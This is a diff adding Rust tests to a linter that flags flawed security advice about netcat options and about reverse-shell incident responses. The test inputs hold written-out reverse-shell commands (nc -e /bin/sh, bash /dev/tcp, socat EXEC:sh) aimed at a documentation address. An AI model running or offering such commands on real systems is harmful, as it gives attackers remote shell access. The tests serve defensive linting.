@@ -165,6 +165,57 @@ fn a_command_in_a_sentence_is_judged_when_it_is_advice() {
 }
 
 #[test]
+fn an_option_that_runs_a_command_is_no_protection() {
+    let check = |text: &str, is_wrong: bool| {
+        assert_eq!(markdown(text).contains(&"C05"), is_wrong, "{text}: {:?}", markdown(text));
+    };
+    check(
+        "1.  Configure the pod to only allow `ncat` with a trusted certificate (e.g., the `-c` option).",
+        true,
+    );
+    check("Run `netcat` securely by passing `-e` to it.", true);
+    check("Use the `-c` flag of netcat with a valid TLS certificate.", true);
+    check("Allow `nc` only when it is started with `--sh-exec`.", true);
+    check("Never allow `nc` with `-e`.", false);
+    check("The process ran `nc` with the `-e` flag.", false);
+    check(
+        "Find out who started `nc -e /bin/sh` and save the TLS certificates of the proxy.",
+        false,
+    );
+    check("Use `ncat` with a valid certificate (`--ssl-cert`).", false);
+    check("Detect encrypted `ncat` connections that run a shell with `-e`.", false);
+    check(
+        "`openssl s_client -connect host:443` shows the certificate; `nc -c` is no substitute.",
+        false,
+    );
+    check("An image without `nc`, or one whose `nc` knows no `-e`, is safe.", false);
+    check("Build the image with OpenBSD netcat, which is safer: it has no `-e`.", false);
+}
+
+#[test]
+fn a_report_that_tells_of_a_call_is_not_to_block_what_comes_in_there() {
+    let check = |command: &str, advice: &str, is_wrong: bool| {
+        let text = format!("The process was `{command}`.\n\n1.  Look at it.\n2.  {advice}\n");
+        let found = lint(&text, Kind::Markdown, None);
+        let lines: Vec<_> = found.iter().filter(|f| f.id == "D01").map(|f| f.line).collect();
+        assert_eq!(lines, if is_wrong { vec![4] } else { vec![] }, "{text} gives {found:?}");
+    };
+    let advice = "Set up a policy to block incoming connections on port 4444.";
+    check("nc -e /bin/sh 198.51.100.7 4444", advice, true);
+    check("/usr/bin/ncat 198.51.100.7 4444 -e /bin/sh 4444", advice, true);
+    check("bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'", advice, true);
+    check("socat EXEC:sh TCP:198.51.100.7:4444", advice, true);
+    check("nc -l -p 4444", advice, false);
+    check("nc -zv 198.51.100.7 4444", advice, false);
+    check("ssh admin@198.51.100.7", advice, false);
+    check("ls -l 4444", advice, false);
+    let call = "nc -e /bin/sh 198.51.100.7 4444";
+    check(call, "Block incoming connections on port 22 from unknown addresses.", false);
+    check(call, "Block outgoing connections to port 4444.", false);
+    check(call, "Do not block incoming connections on port 4444: the flow goes out.", false);
+}
+
+#[test]
 fn snippets_are_judged_in_their_own_language() {
     let check = |id: &str, text: &str| {
         let found = markdown(text);
